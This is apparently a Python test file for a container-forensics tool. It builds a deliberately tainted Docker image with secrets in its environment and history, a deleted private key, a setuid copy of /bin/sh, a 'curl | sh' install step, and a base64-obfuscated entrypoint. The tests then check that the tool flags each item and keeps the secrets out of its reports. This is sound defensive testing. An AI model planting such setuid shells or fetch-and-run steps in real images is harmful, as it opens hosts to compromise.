"""An image is evidence: what its builder left in it is found, and shown nowhere but in the sealed evidence."""
import atexit
import json
import pathlib
import secrets
import string
import subprocess
import unittest

import world
from world import docker

FORMATS = "html,md,json,timeline,bodyfile,csv,stix,navigator,sarif,sbom"


def random_text(n):
    return "".join(secrets.choice(string.ascii_letters + string.digits) for _ in range(n))


PASSWORD, TOKEN, KEY = random_text(24), "ghp_" + random_text(36), random_text(64)

DOCKERFILE = f"""FROM {world.IMAGE}
ENV DB_PASSWORD={PASSWORD}
RUN true {TOKEN}
COPY id_rsa /srv/id_rsa
RUN rm /srv/id_rsa
RUN cp /bin/sh /srv/.helper && chmod 4755 /srv/.helper
RUN (curl -s http://127.0.0.1:1/install | sh) || true
ENTRYPOINT ["/bin/sh", "-c", "echo c2xlZXAgNjAw | base64 -d | sh"]
"""


@world.once
def staged():
    context = world.new_directory("evidence")
    (context / "Dockerfile").write_text(DOCKERFILE)
    (context / "id_rsa").write_text(f"-----BEGIN OPENSSH PRIVATE KEY-----\n{KEY}\n-----END OPENSSH PRIVATE KEY-----\n")
    world.engine()
    world.build("image-evidence:1", context)
    world.remove("image-evidence")
    docker("run", "-d", "--name", "image-evidence", "image-evidence:1")
    # A process with more than the container was given: root of the host went in. It ends with the container.
    pid = str(world.inspect("image-evidence")["State"]["Pid"])
    entered = subprocess.Popen(["nsenter", "-t", pid, "-m", "-u", "-i", "-n", "-p", "sleep", "600"], stdin=subprocess.DEVNULL,
                               stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)
    atexit.register(entered.kill)
    world.wait_until(lambda: pathlib.Path(f"/proc/{entered.pid}/task/{entered.pid}/children").read_text().strip(), 10, "a process in it")
    home = world.new_directory("home")
    result = world.capture("image-evidence", home=home)
    out = world.new_directory("reports")
    reports = world.kanshiki("--home", home, "report", "--format", FORMATS, "-o", out, result.json["bundle"])
    if reports.status:
        raise AssertionError(reports)
    return home, world.Bundle(result.json["bundle"]), out, reports, result


class ImageEvidence(unittest.TestCase):
    def setUp(self):
        self.home, self.bundle, self.out, self.screen, self.captured = staged()
        self.report = json.loads((self.out / "report.json").read_text())
        self.rules = {f["rule"]: f for f in self.report["findings"]}

    def test_each_thing_that_the_builder_left_is_a_finding(self):
        for rule in ("image.secret-in-env", "image.secret-in-history", "image.secret-in-layer", "image.setuid-layer",
                     "image.history-fetch", "image.entrypoint-odd"):
            with self.subTest(rule):
                self.assertIn(rule, self.rules)
        image = self.report["image"]
        self.assertIn("/srv/id_rsa", [g["path"] for g in image["ghosts"]["rows"]])
        self.assertIn("/srv/.helper", [f["path"] for f in image["set_id"]["rows"]])
        steps = [s.get("created_by", "") for s in image["steps"]["rows"]]
        self.assertTrue(any("curl" in s for s in steps), steps)
        self.assertEqual(image["steps"]["layers"], sum("diff_id" in s for s in image["steps"]["rows"]))

    def test_no_output_has_a_value_that_the_sealed_evidence_has(self):
        outputs = {p.name: p.read_bytes() for p in self.out.iterdir()}
        outputs["the screen"] = self.screen.out + self.screen.err
        outputs["the capture"] = self.captured.out + self.captured.err
        for finding in self.report["findings"]:
            shown = world.kanshiki("--home", self.home, "show", finding["id"], self.bundle.path)
            outputs["show " + finding["rule"]] = shown.out + shown.err
        self.assertGreater(len(outputs), 12)
        for value in (PASSWORD, TOKEN, KEY):
            for name, text in outputs.items():
                with self.subTest(name):
                    self.assertNotIn(value.encode(), text)
        self.assertIn(PASSWORD.encode(), (self.bundle / "data/engine/image-inspect.json").read_bytes())
        self.assertIn(TOKEN.encode(), (self.bundle / "data/engine/image-history.json").read_bytes())
        self.assertIn(KEY.encode(), (self.bundle / "data/image/ghosts.tar").read_bytes())

    def test_exposure_is_told_apart_from_intrusion(self):
        page = (self.out / "report.html").read_text()
        begin, end = page.index('<section id="findings">'), page.index('<section id="timeline">')
        for finding in self.report["findings"]:
            at = page.index(f'<article id="f{finding["n"]}">')
            self.assertEqual(begin < at < end, finding["class"] != "posture", finding["rule"])

    def test_a_process_with_more_than_its_container_was_given_is_told(self):
        rows = self.report["posture"]["rows"]
        beyond = [r for r in rows if r["id"] == "caps.beyond"]
        self.assertTrue(any("cap_sys_admin" in r["value"] and r.get("n") for r in beyond), rows)
        effective = next(r for r in rows if r["id"] == "caps.effective")
        self.assertIn("cap_sys_admin", effective["value"])
        self.assertIn("posture.caps-beyond", self.rules)
        self.assertEqual(next(r["value"] for r in rows if r["id"] == "privileged"), "no")
